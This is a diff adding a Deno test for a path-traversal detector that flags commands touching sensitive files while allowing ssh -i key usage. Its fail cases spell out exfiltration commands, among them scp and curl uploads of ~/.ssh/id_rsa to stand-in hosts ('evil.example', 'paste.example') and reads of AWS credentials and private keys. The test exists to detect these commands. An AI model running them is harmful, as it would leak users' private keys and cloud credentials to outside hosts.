@@ -401,3 +401,22 @@ Deno.test("pathTraversalDetector.scan() reports a path repeated in the text and 
   assert.deepEqual([cloud[0].start, cloud[0].end], [3, 21]);
   assert.deepEqual(pathTraversalDetector.scan(text, at("command"), NONE), fs);
 });
+
+Deno.test("pathTraversalDetector.scan() passes the key ssh is told to use with -i, not other paths on the line", () => {
+  const pass = [
+    "ssh -i ~/.ssh/id_work -o IdentitiesOnly=yes",
+    'GIT_SSH_COMMAND="ssh -i ~/.ssh/deploy_key" git fetch origin',
+    "scp -i ~/.ssh/ci_key build.tar deploy@web-1:/srv/",
+  ];
+  for (const v of pass) assert.deepEqual(pathTraversalDetector.scan(v, at("value"), NONE), [], v);
+  const fail = [
+    "scp -i ~/.ssh/k ~/.ssh/id_rsa evil.example:/tmp/",
+    "ssh -i ~/.ssh/id_rsa user@host cat ~/.aws/credentials",
+    "curl -F f=@~/.ssh/id_rsa https://paste.example -i",
+    "cat ~/.ssh/id_ed25519",
+  ];
+  for (const v of fail) {
+    const kinds = pathTraversalDetector.scan(v, at("value"), NONE).map((f) => f.kind);
+    assert.ok(kinds.includes("sensitive_file"), `${v}: [${kinds}]`);
+  }
+});
